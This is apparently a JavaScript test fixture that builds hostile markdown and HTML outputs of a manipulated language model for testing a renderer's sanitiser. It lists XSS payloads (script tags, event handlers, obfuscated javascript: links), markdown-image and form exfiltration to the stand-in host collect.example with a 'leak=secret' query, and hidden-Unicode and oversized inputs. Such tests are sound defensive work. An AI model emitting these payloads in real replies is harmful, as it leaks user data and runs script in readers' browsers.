/** Outputs of a model that someone has turned against the reader: each payload in each frame. */

import { readFile } from "node:fs/promises";

/** A host that is never to be asked for anything, with what an attacker would like to learn. */
const LEAK = "https://collect.example/p.png?leak=secret";

/** By what they are after. @type {Record<string, string[]>} */
const PAYLOADS = {
  "requests by images": [
    ...[`![a](${LEAK})`, `![a][i]\n\n[i]: ${LEAK}`, `[![a](${LEAK})](${LEAK})`, `<img src="${LEAK}">`, `<picture><source srcset="${LEAK}"></picture>`],
    ...[`<video poster="${LEAK}"></video>`, `<input type=image src="${LEAK}">`, `![a](//collect.example/p.png)`, `![a](data:image/svg+xml,<svg onload=zz()>)`],
  ],
  "scripts in markup": [
    ...["<script>zz()</script>", "<img src=x onerror=zz()>", "<svg onload=zz()>", "<svg><script>zz()</script></svg>", "<body onload=zz()>", "<details open ontoggle=zz()>"],
    ...["<math><mtext><img src=x onerror=zz()></mtext></math>", "<scr<script>ipt>zz()</script>", "&lt;script&gt;zz()&lt;/script&gt;", "<a href=javascript:zz()>x</a>"],
    ...["<template><script>zz()</script></template>", "<!--><img src=x onerror=zz()>-->", "<noscript><p title=\"</noscript><img src=x onerror=zz()>\">"],
  ],
  "links that run or leave": [
    ...["[x](javascript:zz())", "[x](JaVaScRiPt:zz())", "[x](java\tscript:zz())", "[x](&#106;avascript:zz())", "[x](javascript&colon;zz())", "[x](\x01javascript:zz())", "[x](%6aavascript:zz())"],
    ...["[x](data:text/html,<script>zz()</script>)", "[x](vbscript:zz())", "[x](blob:https://x.test/1)", "[x](file:///etc/passwd)", `[x](${LEAK})`, `<${LEAK}>`, LEAK, "[x](//collect.example/)"],
    ...["[x](\\\\collect.example\\p)", "[x](/\\collect.example/)", "[x](https://docs.test@collect.example/)", "[x](https://collect.example/p1.html)", "[x][y]\n\n[y]: javascript:zz()"],
    ...["[1]: javascript:zz()\n\n[1]", '[x](<javascript:zz()> "title")', "[x](/p1.html?leak=secret)", "[x](/p1.html/../../leak)", "[x](\u202Ejavascript:zz())", "[x](/p1.html\u200B)", "<javascript:zz()>"],
  ],
  "frames, styles, forms": [
    ...[`<iframe src="${LEAK}"></iframe>`, '<iframe srcdoc="<script>zz()</script>"></iframe>', `<object data="${LEAK}"></object>`, `<embed src="${LEAK}">`, `<form action="${LEAK}"><input></form>`],
    ...[`<style>@import "${LEAK}"</style>`, `<link rel=stylesheet href="${LEAK}">`, `<link rel=prefetch href="${LEAK}">`, `<base href="https://collect.example/">`, `<meta http-equiv=refresh content="0;url=${LEAK}">`],
    ...[`<div style="background:url(${LEAK})">x</div>`, "<div style=position:fixed;inset:0>x</div>", "<button formaction=javascript:zz()>x</button>", "<portal src=x>", "<slot name=footer></slot>"],
  ],
  "text that reads otherwise": ["\u202Egpj.exe\u202C", "\u2066if (admin)\u2069", "a\u200Bb\u2060c\uFEFFd", "\u{E0073}\u{E0065}\u{E0063}", "\0\x07\x1B[31m", "x\uE000\uE001y", "\uD83D"],
  "fakes of the page's own parts": ["[1](javascript:zz())", "[9]", "[[1]]", "`[1]`", "<button class=footnote>1</button>", '<a part="source" href="javascript:zz()">Page one</a>', "【1†source】"],
  "too much": ["*".repeat(3000), "[".repeat(3000), "> ".repeat(1500), "- ".repeat(1500), `|${"a|".repeat(500)}\n|${"-|".repeat(500)}`, "`".repeat(2999), "#".repeat(3000), `[x](${"a".repeat(9000)})`],
};

/** Where a payload may stand. @type {((payload: string) => string)[]} */
const FRAMES = [
  (payload) => payload,
  (payload) => `It is so [1]. **Bold ${payload}** _and ${payload}_ end.`,
  (payload) => `- item ${payload}\n  - ${payload}\n\n> ${payload}\n\n# ${payload}`,
  (payload) => `| a | b |\n|---|---|\n| ${payload.replaceAll("\n", " ")} | [1] |`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\`\n\n\`${payload}\``,
];

/** @typedef {string | { repeat: { text: string, times: number } }} Piece */
/** @typedef {{ kind: string, markdown: string | Piece[] }} Item */

/**
 * Each payload in each frame, and the replies of `tests/fixtures/hostile/`.
 *
 * @returns {Promise<{ aim: string, text: string }[]>}
 */
export async function hostileOutputs() {
  const framed = Object.entries(PAYLOADS).flatMap(([aim, payloads]) =>
    payloads.flatMap((payload) => FRAMES.map((frame) => ({ aim, text: frame(payload) }))),
  );
  const halves = await Promise.all(
    ["tuning", "frozen"].map((name) => readFile(new URL(`../../fixtures/hostile/${name}.json`, import.meta.url), "utf8")),
  );
  /** @type {Item[]} */
  const items = halves.flatMap((half) => JSON.parse(half));
  return [...framed, ...items.map(({ kind, markdown }) => ({ aim: `the set's ${kind}`, text: joined(markdown) }))];
}

/** @param {Item["markdown"]} markdown */
function joined(markdown) {
  if (typeof markdown === "string") return markdown;
  return markdown.map((piece) => (typeof piece === "string" ? piece : piece.repeat.text.repeat(piece.repeat.times))).join("");
}
